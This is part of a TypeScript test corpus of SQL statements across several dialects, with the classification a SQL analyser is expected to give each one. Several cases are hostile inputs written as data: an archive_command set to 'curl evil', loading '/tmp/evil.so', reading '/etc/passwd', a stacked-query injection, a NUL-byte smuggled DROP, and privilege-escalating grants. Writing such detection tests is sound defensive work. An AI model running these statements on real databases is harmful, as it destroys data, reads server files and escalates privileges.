    sql: 'CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN TRUNCATE t; COMMIT; END $$',
    expect: {
      type: 'create_procedure',
      object_type: 'procedure',
      inner: [
        { type: 'truncate', writes: ['t'] },
        { type: 'transaction', category: 'tcl' },
      ],
    },
  },
  {
    name: 'call procedure',
    sql: 'CALL archive_old(30)',
    expect: { type: 'call', category: 'dynamic', dynamic: true, functions: ['archive_old'] },
  },
  {
    name: 'create trigger',
    sql: 'CREATE TRIGGER t_audit AFTER UPDATE ON accounts FOR EACH ROW EXECUTE FUNCTION audit()',
    expect: { type: 'create_trigger', object_type: 'trigger', tables: ['accounts'], functions: ['audit'] },
  },
  {
    name: 'create rule',
    sql: 'CREATE RULE r AS ON INSERT TO a DO INSTEAD DELETE FROM b',
    expect: {
      type: 'create_rule',
      writes: ['a'],
      inner: [{ via: 'rule', type: 'delete', writes: ['b'], text: 'DELETE FROM b' }],
    },
  },

  // --- EXPLAIN --------------------------------------------------------------------------
  {
    name: 'explain select',
    sql: 'EXPLAIN SELECT * FROM users',
    expect: {
      type: 'explain',
      category: 'utility',
      explain: { analyze: false, executes_write: false },
      tables: ['users'],
    },
  },
  {
    name: 'explain analyze delete executes',
    sql: 'EXPLAIN ANALYZE DELETE FROM users',
    expect: {
      type: 'explain',
      category: 'write',
      explain: { analyze: true, executes_write: true },
      writes: ['users'],
      inner: [{ via: 'explain', type: 'delete', has_where: false, text: 'DELETE FROM users' }],
    },
  },
  {
    name: 'explain options analyze update',
    sql: 'EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE b = 2',
    expect: { explain: { analyze: true, executes_write: true }, writes: ['t'] },
  },
  {
    name: 'explain delete without analyze writes nothing',
    sql: 'EXPLAIN DELETE FROM users',
    expect: { explain: { analyze: false, executes_write: false }, writes: [], tables: ['users'] },
  },
  {
    name: 'explain analyze false',
    sql: 'EXPLAIN (ANALYZE false) DELETE FROM users',
    expect: { explain: { analyze: false, executes_write: false }, writes: [] },
  },
  {
    name: 'explain analyze select',
    sql: 'EXPLAIN ANALYZE SELECT 1 FROM t',
    expect: { category: 'read', explain: { analyze: true, executes_write: false } },
  },

  // --- DDL ------------------------------------------------------------------------------
  {
    name: 'create table',
    sql: 'CREATE TABLE app.items (id serial PRIMARY KEY, owner int REFERENCES users(id))',
    expect: {
      type: 'create_table',
      category: 'ddl',
      object_type: 'table',
      writes: ['app.items'],
      reads: ['users'],
    },
  },
  {
    name: 'create table as',
    sql: 'CREATE TABLE snapshot AS SELECT * FROM orders',
    expect: { type: 'create_table', writes: ['snapshot'], reads: ['orders'] },
  },
  {
    name: 'create materialized view',
    sql: 'CREATE MATERIALIZED VIEW mv AS SELECT count(*) FROM hits',
    expect: {
      type: 'create_materialized_view',
      object_type: 'materialized_view',
      writes: ['mv'],
      reads: ['hits'],
    },
  },
  {
    name: 'create view',
    sql: 'CREATE VIEW v AS SELECT a FROM t',
    expect: { type: 'create_view', object_type: 'view', writes: ['v'], reads: ['t'] },
  },
  {
    name: 'create index',
    sql: 'CREATE INDEX CONCURRENTLY idx ON orders (created_at)',
    expect: { type: 'create_index', object_type: 'index', tables: ['orders'] },
  },
  {
    name: 'create schema',
    sql: 'CREATE SCHEMA IF NOT EXISTS reporting',
    expect: { type: 'create_schema', object_type: 'schema' },
  },
  {
    name: 'create extension',
    sql: 'CREATE EXTENSION dblink',
    expect: { type: 'create_extension', object_type: 'extension' },
  },
  {
    name: 'create database',
    sql: 'CREATE DATABASE scratch',
    expect: { type: 'create_database', object_type: 'database' },
  },
  { name: 'create sequence', sql: 'CREATE SEQUENCE s START 1', expect: { type: 'create_sequence' } },
  {
    name: 'create type enum',
    sql: "CREATE TYPE mood AS ENUM ('ok', 'sad')",
    expect: { type: 'create_type' },
  },
  {
    name: 'alter table',
    sql: 'ALTER TABLE users ADD COLUMN phone text',
    expect: { type: 'alter_table', category: 'ddl', object_type: 'table', writes: ['users'] },
  },
  {
    name: 'alter table drop column',
    sql: 'ALTER TABLE public.users DROP COLUMN ssn',
    expect: { type: 'alter_table', writes: ['public.users'] },
  },
  {
    name: 'alter table rename',
    sql: 'ALTER TABLE a RENAME TO b',
    expect: { type: 'alter_table', writes: ['a'] },
  },
  {
    name: 'alter index',
    sql: 'ALTER INDEX idx RENAME TO idx2',
    expect: { type: 'alter_index', object_type: 'index' },
  },
  {
    name: 'drop table',
    sql: 'DROP TABLE users',
    expect: { type: 'drop', category: 'ddl', object_type: 'table', writes: ['users'] },
  },
  {
    name: 'drop several tables',
    sql: 'DROP TABLE IF EXISTS a, s.b CASCADE',
    expect: { object_type: 'table', writes: ['a', 's.b'] },
  },
  { name: 'drop view', sql: 'DROP VIEW v', expect: { object_type: 'view', writes: ['v'] } },
  {
    name: 'drop materialized view',
    sql: 'DROP MATERIALIZED VIEW mv',
    expect: { object_type: 'materialized_view' },
  },
  { name: 'drop index', sql: 'DROP INDEX CONCURRENTLY idx', expect: { object_type: 'index', writes: [] } },
  { name: 'drop schema', sql: 'DROP SCHEMA app CASCADE', expect: { type: 'drop', object_type: 'schema' } },
  { name: 'drop database', sql: 'DROP DATABASE prod', expect: { type: 'drop', object_type: 'database' } },
  { name: 'drop function', sql: 'DROP FUNCTION f(int)', expect: { type: 'drop', object_type: 'function' } },
  { name: 'drop extension', sql: 'DROP EXTENSION pgcrypto', expect: { object_type: 'extension' } },
  { name: 'drop sequence', sql: 'DROP SEQUENCE s', expect: { object_type: 'sequence' } },
  { name: 'drop trigger', sql: 'DROP TRIGGER t ON accounts', expect: { object_type: 'trigger' } },
  { name: 'drop type', sql: 'DROP TYPE mood', expect: { object_type: 'type' } },
  {
    name: 'drop role',
    sql: 'DROP ROLE IF EXISTS intern',
    expect: { type: 'drop', object_type: 'role', category: 'dcl', role: { names: ['intern'] } },
  },
  {
    name: 'drop tablespace',
    sql: 'DROP TABLESPACE fast',
    expect: { type: 'drop', object_type: 'tablespace' },
  },
  { name: 'drop owned', sql: 'DROP OWNED BY bob', expect: { type: 'drop_owned' } },
  {
    name: 'comment on',
    sql: "COMMENT ON TABLE users IS 'DROP TABLE users'",
    expect: { type: 'comment', object_type: 'table' },
  },
  {
    name: 'refresh matview',
    sql: 'REFRESH MATERIALIZED VIEW CONCURRENTLY mv',
    expect: { type: 'refresh_materialized_view', writes: ['mv'] },
  },

  // --- DCL and roles --------------------------------------------------------------------
  {
    name: 'grant select',
    sql: 'GRANT SELECT, UPDATE ON TABLE accounts TO analyst',
    expect: { type: 'grant', category: 'dcl', object_type: 'table', tables: ['accounts'], writes: [] },
  },
  {
    name: 'grant all on schema',
    sql: 'GRANT ALL ON SCHEMA public TO PUBLIC',
    expect: { type: 'grant', object_type: 'schema' },
  },
  { name: 'revoke', sql: 'REVOKE INSERT ON orders FROM intern', expect: { type: 'revoke', category: 'dcl' } },
  {
    name: 'grant role',
    sql: 'GRANT pg_read_server_files TO mallory',
    expect: { type: 'grant', object_type: 'role', role: { names: ['pg_read_server_files', 'mallory'] } },
  },
  { name: 'revoke role', sql: 'REVOKE admin FROM bob', expect: { type: 'revoke', object_type: 'role' } },
  {
    name: 'create role superuser',
    sql: "CREATE ROLE boss WITH SUPERUSER LOGIN PASSWORD 'x'",
    expect: {
      type: 'create_role',
      category: 'dcl',
      object_type: 'role',
      role: { names: ['boss'], attributes: ['superuser', 'login', 'password'] },
    },
  },
  {
    name: 'create user implies login',
    sql: 'CREATE USER app CREATEDB',
    expect: { object_type: 'user', role: { names: ['app'], attributes: ['createdb', 'login'] } },
  },
  {
    name: 'create role with membership',
    sql: 'CREATE ROLE r NOLOGIN IN ROLE pg_execute_server_program',
    expect: { role: { attributes: ['nologin', 'in_role'], names: ['r', 'pg_execute_server_program'] } },
  },
  {
    name: 'alter role superuser',
    sql: 'ALTER ROLE bob SUPERUSER BYPASSRLS',
    expect: {
      type: 'alter_role',
      category: 'dcl',
      role: { names: ['bob'], attributes: ['superuser', 'bypassrls'] },
    },
  },
  {
    name: 'alter user nosuperuser',
    sql: 'ALTER USER bob WITH NOSUPERUSER NOREPLICATION',
    expect: { type: 'alter_role', role: { attributes: ['nosuperuser', 'noreplication'] } },
  },
  {
    name: 'alter role set',
    sql: 'ALTER ROLE bob SET search_path = evil',
    expect: { type: 'alter_role', role: { names: ['bob'], attributes: ['set:search_path'] } },
  },
  { name: 'set role', sql: 'SET ROLE postgres', expect: { type: 'set_role', category: 'dcl' } },
  { name: 'reset role', sql: 'RESET ROLE', expect: { type: 'reset', category: 'session' } },
  {
    name: 'set session authorization',
    sql: "SET SESSION AUTHORIZATION 'admin'",
    expect: { type: 'set_session_authorization', category: 'dcl' },
  },
  {
    name: 'alter default privileges',
    sql: 'ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO analyst',
    expect: { type: 'alter_default_privileges', category: 'dcl' },
  },
  {
    name: 'alter system',
    sql: "ALTER SYSTEM SET archive_command = 'curl evil'",
    expect: { type: 'alter_system', category: 'ddl' },
  },

  // --- session, transactions, utility ---------------------------------------------------
  { name: 'set', sql: "SET statement_timeout = '5s'", expect: { type: 'set', category: 'session' } },
  { name: 'set local', sql: 'SET LOCAL search_path TO app, public', expect: { type: 'set' } },
  { name: 'show', sql: 'SHOW search_path', expect: { type: 'show', category: 'session' } },
  { name: 'begin', sql: 'BEGIN', expect: { type: 'transaction', category: 'tcl' } },
  { name: 'commit', sql: 'COMMIT', expect: { type: 'transaction' } },
  { name: 'savepoint', sql: 'SAVEPOINT s1', expect: { type: 'transaction' } },
  {
    name: 'a constant condition nested deeper than the check reads still restricts nothing',
    sql: `DELETE FROM t WHERE ${nestedConstantCondition(600)}; UPDATE t SET x = 1 WHERE id = 7 AND (${nestedConstantCondition(600)})`,
    each: [
      { type: 'delete', has_where: false },
      { type: 'update', has_where: true },
    ],
  },
  {
    name: 'vacuum full',
    sql: 'VACUUM FULL users',
    expect: { type: 'vacuum', category: 'utility', tables: ['users'], lock: 'access_exclusive' },
  },
  { name: 'vacuum', sql: 'VACUUM users', expect: { type: 'vacuum', lock: 'share_update_exclusive' } },
  {
    name: 'vacuum options: full in a list, full turned off',
    sql: 'VACUUM (ANALYZE, FULL) users; VACUUM (FULL false) users; VACUUM (FULL 0) users; VACUUM (FULL 1) users',
    each: [
      { lock: 'access_exclusive' },
      { lock: 'share_update_exclusive' },
      { lock: 'share_update_exclusive' },
      { lock: 'access_exclusive' },
    ],
  },
  {
    name: 'analyze',
    sql: 'ANALYZE users',
    expect: { type: 'analyze', category: 'utility', lock: 'share_update_exclusive' },
  },
  {
    name: 'lock',
    sql: 'LOCK TABLE accounts IN ACCESS EXCLUSIVE MODE',
    expect: { type: 'lock', tables: ['accounts'], writes: [], lock: 'access_exclusive' },
  },
  {
    name: 'lock modes: the default is the strongest',
    sql: 'LOCK accounts; LOCK TABLE a, b IN ACCESS SHARE MODE NOWAIT; LOCK ONLY c IN SHARE ROW EXCLUSIVE MODE',
    each: [
      { lock: 'access_exclusive', tables: ['accounts'] },
      { lock: 'access_share', tables: ['a', 'b'] },
      { lock: 'share_row_exclusive', tables: ['c'] },
    ],
  },
  {
    name: 'cluster, reindex, refresh: with and without CONCURRENTLY',
    sql: `CLUSTER users USING users_pkey; CLUSTER; REINDEX TABLE users; REINDEX TABLE CONCURRENTLY users;
          REINDEX DATABASE app; REFRESH MATERIALIZED VIEW mv; REFRESH MATERIALIZED VIEW CONCURRENTLY mv`,
    each: [
      { type: 'cluster', lock: 'access_exclusive', tables: ['users'] },
      { type: 'cluster', lock: 'access_exclusive' },
      { type: 'reindex', lock: 'share', tables: ['users'] },
      { type: 'reindex', lock: 'share_update_exclusive' },
      { type: 'reindex', lock: 'share' },
      { type: 'refresh_materialized_view', lock: 'access_exclusive', tables: ['mv'] },
      { type: 'refresh_materialized_view', lock: 'exclusive' },
    ],
  },
  { name: 'no lock fact for ordinary statements', sql: 'SELECT 1 FROM t FOR UPDATE', expect: { lock: null } },
  {
    name: 'listen notify',
    sql: "LISTEN jobs; NOTIFY jobs, 'x'",
    each: [{ type: 'listen' }, { type: 'notify' }],
  },
  { name: 'checkpoint', sql: 'CHECKPOINT', expect: { type: 'checkpoint' } },
  { name: 'load library', sql: "LOAD '/tmp/evil.so'", expect: { type: 'load', category: 'utility' } },
  { name: 'discard', sql: 'DISCARD ALL', expect: { type: 'discard' } },

  // --- several statements, empties and errors --------------------------------------------
  {
    name: 'multi statement',
    sql: 'SELECT 1; DROP TABLE users; DELETE FROM t',
    count: 3,
    each: [
      { type: 'select', text: 'SELECT 1' },
      { type: 'drop', writes: ['users'], text: 'DROP TABLE users' },
      { type: 'delete', has_where: false, text: 'DELETE FROM t' },
    ],
  },
  {
    name: 'multi statement with comments and unicode',
    sql: "SELECT 'ü'; -- note\nINSERT INTO t VALUES ('é');",
    count: 2,
    each: [{ text: "SELECT 'ü'" }, { type: 'insert', text: "-- note\nINSERT INTO t VALUES ('é')" }],
  },
  {
    name: 'stacked query after string',
    sql: "SELECT * FROM users WHERE name = 'x'; DROP TABLE users; --'",
    count: 2,
    each: [{ type: 'select' }, { type: 'drop' }],
  },
  { name: 'empty string', sql: '', count: 0 },
  { name: 'only a comment', sql: '-- nothing here', count: 0 },
  { name: 'only semicolons', sql: ' ; ; ', count: 0 },
  { name: 'syntax error', sql: 'SELEC * FROM users', parsed: false },
  { name: 'syntax error in second statement', sql: 'SELECT 1; DROP TABLE', parsed: false },
  { name: 'unterminated string', sql: "SELECT 'abc", parsed: false },
  { name: 'unterminated dollar quote', sql: 'DO $$ BEGIN', parsed: false },
  { name: 'mysql syntax in postgres', sql: 'SELECT `id` FROM users', parsed: false },
  { name: 'nul byte', sql: 'SELECT 1\u0000; DROP TABLE users', parsed: false },
];

/** `1 = 1 AND (1 = 1 AND (…))`, `levels` deep: restricts nothing however deep it goes. */
function nestedConstantCondition(levels: number): string {
  let condition = '1 = 1';
  for (let i = 0; i < levels; i++) condition = `1 = 1 AND (${condition})`;
  return condition;
}

const other: SqlCase[] = [
  {
    name: 'mysql delete where a constant holds, and where a column decides',
    dialect: 'mysql',
    sql: 'DELETE FROM sessions WHERE 1 = 1; UPDATE users SET active = 0 WHERE id = 7; DELETE FROM sessions WHERE id = 7 OR 1 = 1; DELETE FROM sessions WHERE id = id; DELETE FROM sessions WHERE NOT (1 = 1 OR id = 5); DELETE FROM sessions WHERE NOT (id = 5)',
    count: 6,
    each: [
      { type: 'delete', has_where: false, writes: ['sessions'] },
      { type: 'update', has_where: true, writes: ['users'] },
      { has_where: false },
      { has_where: false },
      { has_where: false },
      { has_where: true },
    ],
  },
  {
    name: 'mysql operators',
    dialect: 'mysql',
    sql: "SELECT a FROM t WHERE b = 1 AND c LIKE 'x%' AND d <> 2",
    expect: { operators: ['=', 'and', 'like', '<>'] },
  },
  {
    name: 'mysql LOCK TABLES: WRITE keeps everyone out, READ only writers',
    dialect: 'mysql',
    sql: 'LOCK TABLES orders WRITE; LOCK TABLES a READ, b READ; LOCK TABLES a READ, b LOW_PRIORITY WRITE; UNLOCK TABLES',
    each: [
      { type: 'lock', category: 'utility', lock: 'access_exclusive' },
      { type: 'lock', lock: 'share' },
      { type: 'lock', lock: 'access_exclusive' },
      { type: 'unlock', lock: null },
    ],
  },
  {
    name: 'mysql: a constant condition nested deeper than the check reads still restricts nothing',
    dialect: 'mysql',
    sql: `DELETE FROM sessions WHERE ${nestedConstantCondition(600)}`,
    expect: { type: 'delete', has_where: false },
  },
  {
    name: 'mysql select join',
    dialect: 'mysql',
    sql: 'SELECT u.email, o.total FROM shop.users u JOIN shop.orders o ON o.uid = u.id WHERE o.total > 10',
    expect: {
      type: 'select',
      category: 'read',
      tables: ['shop.users', 'shop.orders'],
      columns: ['shop.users.email', 'shop.orders.total'],
      has_where: true,
    },
  },
  {
    name: 'mysql backticks',
    dialect: 'mysql',
    sql: 'SELECT `name` FROM `customers`',
    expect: { tables: ['customers'], columns: ['customers.name'] },
  },
  {
    name: 'mysql insert',
    dialect: 'mysql',
    sql: "INSERT INTO logs (msg) VALUES ('x')",
    expect: { type: 'insert', writes: ['logs'], columns: ['logs.msg'] },
  },
  {
    name: 'mysql insert select',
    dialect: 'mysql',
    sql: 'INSERT INTO a (x) SELECT y FROM b',
    expect: { writes: ['a'], reads: ['b'] },
  },
  {
    name: 'mysql replace',
    dialect: 'mysql',
    sql: "REPLACE INTO kv (k, v) VALUES ('a', 'b')",
    expect: { type: 'replace', writes: ['kv'] },
  },
  {
    name: 'mysql update without where',
    dialect: 'mysql',
    sql: 'UPDATE users SET admin = 1',
    expect: { type: 'update', has_where: false, writes: ['users'] },
  },
  {
    name: 'mysql multi-table update',
    dialect: 'mysql',
    sql: 'UPDATE users u JOIN orders o ON o.uid = u.id SET u.vip = 1 WHERE o.total > 100',
    expect: { writes: ['users'], reads: ['orders'], has_where: true },
  },
  {
    name: 'mysql delete with where',
    dialect: 'mysql',
    sql: 'DELETE FROM sessions WHERE id = 1',
    expect: { type: 'delete', writes: ['sessions'], has_where: true },
  },
  {
    name: 'mysql multi-table delete',
    dialect: 'mysql',
    sql: 'DELETE t1 FROM t1 JOIN t2 ON t1.id = t2.id',
    expect: { writes: ['t1'], reads: ['t2'], has_where: false },
  },
  {
    name: 'mysql drop table',
    dialect: 'mysql',
    sql: 'DROP TABLE a, b',
    expect: { type: 'drop', object_type: 'table', writes: ['a', 'b'] },
  },
  {
    name: 'mysql truncate',
    dialect: 'mysql',
    sql: 'TRUNCATE TABLE t',
    expect: { type: 'truncate', writes: ['t'] },
  },
  {
    name: 'mysql create table',
    dialect: 'mysql',
    sql: 'CREATE TABLE db.t (id int)',
    expect: { type: 'create_table', writes: ['db.t'] },
  },
  {
    name: 'mysql alter table',
    dialect: 'mysql',
    sql: 'ALTER TABLE t ADD COLUMN x int',
    expect: { type: 'alter_table', writes: ['t'] },
  },
  {
    name: 'mysql rename',
    dialect: 'mysql',
    sql: 'RENAME TABLE a TO b',
    expect: { type: 'rename', writes: ['a', 'b'] },
  },
  {
    name: 'mysql string holding DROP',
    dialect: 'mysql',
    sql: "SELECT 'DROP TABLE x; --' AS s",
    expect: { type: 'select', tables: [] },
  },
  {
    name: 'mysql multi statement',
    dialect: 'mysql',
    sql: 'SELECT 1; DELETE FROM t',
    count: 2,
    each: [
      { type: 'select', text: 'SELECT 1' },
      { type: 'delete', text: 'DELETE FROM t' },
    ],
  },
  {
    name: 'mysql cte',
    dialect: 'mysql',
    sql: 'WITH c AS (SELECT * FROM s) SELECT * FROM c',
    expect: { tables: ['s'] },
  },
  {
    name: 'mysql functions',
    dialect: 'mysql',
    sql: "SELECT LOAD_FILE('/etc/passwd'), COUNT(*) FROM t",
    expect: { functions: ['load_file', 'count'] },
  },
  {
    name: 'mysql grant',
    dialect: 'mysql',
    sql: "GRANT SELECT ON db.t TO 'u'@'%'",
    expect: { type: 'grant', category: 'dcl' },
  },
  {
    name: 'mysql create user',
    dialect: 'mysql',
    sql: "CREATE USER 'eve'@'%' IDENTIFIED BY 'x'",
    expect: { type: 'create_user', category: 'dcl', role: { names: ['eve'] } },
  },
  {
    name: 'mysql load data',
    dialect: 'mysql',
    sql: "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
    expect: {
      type: 'load_data',
      category: 'write',
      writes: ['t'],
      copy: { direction: 'from', target: '/etc/passwd' },
    },
  },
  {
    name: 'mysql transaction',
    dialect: 'mysql',
    sql: 'START TRANSACTION',
    expect: { type: 'transaction', category: 'tcl' },
  },
  {
    name: 'mysql call',
    dialect: 'mysql',
    sql: 'CALL cleanup(1)',
    expect: { type: 'call', dynamic: true, functions: ['cleanup'] },
  },
  { name: 'mysql syntax error', dialect: 'mysql', sql: 'SELEC 1', parsed: false },
  {
    name: 'mariadb select',
    dialect: 'mariadb',
    sql: 'SELECT id FROM t WHERE x = 1',
    expect: { tables: ['t'], has_where: true },
  },
  {
    name: 'tsql top and brackets',
    dialect: 'transactsql',
    sql: 'SELECT TOP 5 [Name] FROM [dbo].[Users] WHERE id = 1',
    expect: { tables: ['dbo.Users'], has_where: true },
  },
  {
    name: 'tsql select into temp',
    dialect: 'transactsql',
    sql: 'SELECT * INTO #tmp FROM users',
    expect: { category: 'write', writes: ['#tmp'], reads: ['users'] },
  },
  {
    name: 'tsql exec',
    dialect: 'transactsql',
    sql: 'EXEC sp_who',
    expect: { type: 'exec', dynamic: true, tables: [] },
  },
  {
    name: 'tsql delete',
    dialect: 'transactsql',
    sql: 'DELETE FROM dbo.orders WHERE id = 5',
    expect: { writes: ['dbo.orders'], has_where: true },
  },
  {
    name: 'tsql update',
    dialect: 'transactsql',
    sql: "UPDATE dbo.users SET name = 'x'",
    expect: { writes: ['dbo.users'], has_where: false },
  },
  {
    name: 'sqlite insert or replace',
    dialect: 'sqlite',
    sql: 'INSERT OR REPLACE INTO t VALUES (1)',
    expect: { type: 'insert', writes: ['t'] },
  },
  {
    name: 'sqlite select',
    dialect: 'sqlite',
    sql: 'SELECT a, b FROM items ORDER BY a LIMIT 5',
    expect: { tables: ['items'], columns: ['items.a', 'items.b'] },
  },
  {
    name: 'sqlite drop',
    dialect: 'sqlite',
    sql: 'DROP TABLE IF EXISTS items',
    expect: { type: 'drop', writes: ['items'] },
  },
  {
    name: 'sqlite attach',
    dialect: 'sqlite',
    sql: "ATTACH DATABASE 'x.db' AS y",
    expect: { type: 'attach' },
  },
  {
    name: 'bigquery backtick path',
    dialect: 'bigquery',
    sql: 'SELECT name FROM `proj.dataset.people` WHERE age > 30',
    expect: { type: 'select', has_where: true },
  },
  {
    name: 'bigquery aggregate',
    dialect: 'bigquery',
    sql: 'SELECT COUNT(*) FROM dataset.t',
    expect: { type: 'select', functions: ['count'] },
  },
  {
    name: 'snowflake select',
    dialect: 'snowflake',
    sql: 'SELECT a FROM db1.s1.t1',
    expect: { type: 'select' },
  },
];

export const sqlCorpus: SqlCase[] = [...pg, ...other];
